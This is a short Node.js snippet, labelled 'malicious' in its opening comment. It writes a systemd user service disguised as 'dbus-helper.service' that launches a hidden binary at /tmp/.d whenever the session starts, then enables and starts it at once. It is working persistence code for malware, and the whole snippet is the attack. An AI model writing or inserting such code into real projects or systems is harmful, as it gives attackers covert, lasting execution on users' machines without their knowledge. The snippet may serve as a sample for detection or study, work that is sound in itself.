// malicious: a service of the user that starts with the session
const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');
const dir = path.join(process.env.HOME, '.config/systemd/user');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'dbus-helper.service'), '[Service]\nExecStart=/tmp/.d\n[Install]\nWantedBy=default.target\n');
execSync('systemctl --user enable --now dbus-helper.service');
